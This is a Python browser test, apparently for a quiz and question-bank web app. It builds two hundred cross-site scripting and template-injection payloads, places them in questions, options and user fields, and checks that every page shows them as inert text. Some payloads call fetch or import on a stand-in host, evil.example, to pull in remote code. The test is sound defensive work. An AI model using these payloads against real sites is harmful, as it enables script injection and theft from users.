"""Two hundred ways to smuggle a script into a question, an option, a name: a real browser shows
each as the text that it is and runs none, on the paper, in the bank and on boards.
"""

import html
import itertools
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page
from sqlalchemy import text

from question_bank.bank import Bank
from question_bank.blueprint import Cell
from question_bank.question import Level, Option
from quiz.rules.round import Rules
from quiz.store.database import Database
from tests.browser.conftest import DESK, Site, standing
from tests.cast import PASSWORD, small_bank

CALLS = ("hit=1", "alert(1)", "parent.hit=1", "fetch('//evil.example')", "import('//evil.example')")
SHAPES = (
    "<script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT>",
    "</script><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><svg onload={0}>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "'><img src=x onerror='{0}'>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<math><mtext></mtext><script>{0}</script></math>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src='javascript:{0}'></iframe>",
    "<a href='javascript:{0}'>x</a>",
    "<a href='java&#10;script:{0}'>x</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<button formaction='javascript:{0}'>x</button>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<object data='javascript:{0}'></object>",
    "<embed src='data:text/html,<script>{0}</script>'>",
    "<img src='data:image/svg+xml,<svg onload={0}>'>",
    "<link rel=stylesheet href='data:text/css,{0}'>",
    "<style>@import 'javascript:{0}'</style>",
    "<div style='background:url(javascript:{0})'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='//evil.example/'>{0}",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>",
    "<marquee onstart={0}>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "{{{{7*7}}}}{{{{ {0} }}}}",
    "{{% import os %}}{0}",
    "${{{0}}} #{{{0}}} <%= {0} %>",
)
PAYLOADS = tuple(shape.format(call) for shape, call in itertools.product(SHAPES, CALLS))
EACH = 16
"""Questions of a topic and level: 96, with four payloads as options each."""


def payload_bank() -> Bank:
    """Each payload as a stem, and two more as options of the same question."""
    small = small_bank(EACH)
    ways = itertools.cycle(PAYLOADS)
    questions = tuple(
        replace(
            one,
            stem=f"{number}. {payload}",
            options=tuple(
                Option(f"{letter}. {payload}")
                for letter, payload in zip("kmnp", ways, strict=False)
            ),
            explanation=payload,
        )
        for (number, one), payload in zip(
            enumerate(small.questions), itertools.cycle(PAYLOADS), strict=False
        )
    )
    return replace(small, title=PAYLOADS[0], questions=questions)


@pytest.fixture
def hostile(sqlite_url: str, tmp_path: Path) -> Iterator[Site]:
    """The contest over that bank; An's name and unit are payloads too."""
    bank = payload_bank()
    cells = tuple(Cell(topic.id, level, EACH) for topic in bank.topics for level in Level)
    with standing(sqlite_url, tmp_path, Rules(cells, minutes=60), bank) as site:
        database = Database(sqlite_url)
        with database.writing() as session:
            values = {"name": PAYLOADS[5], "unit": PAYLOADS[6]}
            for statement in (
                "UPDATE person SET name = :name, position = :unit WHERE number = 'VT0001'",
                "UPDATE unit SET full_name = :unit WHERE code = '930-ubnd' AND :name <> ''",
            ):
                session.connection().execute(text(statement), values)
        database.close()
        yield site


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    context = chromium.new_context(viewport=DESK, locale="vi-VN")
    context.set_default_timeout(30_000)
    yield context.new_page()
    context.close()


class Watch:
    """Whatever a page does besides being shown."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.url = page, url
        self.told: list[str] = []
        page.on("dialog", self._dismiss)
        page.on("console", lambda said: self._hear(said.type, said.text))
        page.on("request", lambda asked: self._see(asked.url))

    def _dismiss(self, dialog: Dialog) -> None:
        self.told.append(dialog.message)
        dialog.dismiss()

    def _hear(self, kind: str, said: str) -> None:
        if kind == "error" or "Security Policy" in said:
            self.told.append(said)

    def _see(self, url: str) -> None:
        if not url.startswith((self.url, "data:")):
            self.told.append(url)

    def shown(self, path: str) -> str:
        """All the text of the page; what it ran is told."""
        self.page.goto(self.url + path)
        if self.page.evaluate("window.hit"):
            self.told.append(f"ran on {path}")
        source: str = self.page.content()
        assert "<script>" not in source.replace('<script type="application/json">', "")
        return html.unescape(" ".join(self.page.inner_text("body").split()))


def test_two_hundred_payloads_are_text_on_the_paper_in_the_bank_and_on_boards(
    hostile: Site, page: Page
) -> None:
    assert len(set(PAYLOADS)) == 200
    watch = Watch(page, hostile.url)
    page.goto(hostile.ticket_link("An"))
    page.wait_for_url("**/rounds/*")
    page.get_by_role("button", name="Bắt đầu làm bài").first.click()
    page.wait_for_url("**/attempts/*")
    paper = watch.shown(page.url.removeprefix(hostile.url))
    missing = [one for one in PAYLOADS if html.unescape(" ".join(one.split())) not in paper]
    assert missing == []
    watch.shown(f"/rounds/{hostile.world.vi_thanh}")
    page.context.clear_cookies()
    page.goto(f"{hostile.url}/sign-in")
    page.locator("[name=username]").fill("quan")
    page.locator("[name=password]").fill(PASSWORD)
    page.locator("main button").click()
    page.wait_for_url(lambda url: "sign-in" not in url)
    assert "{{7*7}}" in watch.shown(f"/banks/{hostile.world.bank_version_id}?q=7*7")
    for path in (
        f"/banks/{hostile.world.bank_version_id}",
        "/banks",
        f"/province/contests/{hostile.world.contest_id}",
        "/staff/people",
        f"/staff/people/{hostile.world.people['An']}",
        f"/staff/rounds/{hostile.world.vi_thanh}/board",
        f"/rounds/{hostile.world.vi_thanh}/rules",
    ):
        watch.shown(path)
    assert watch.told == []
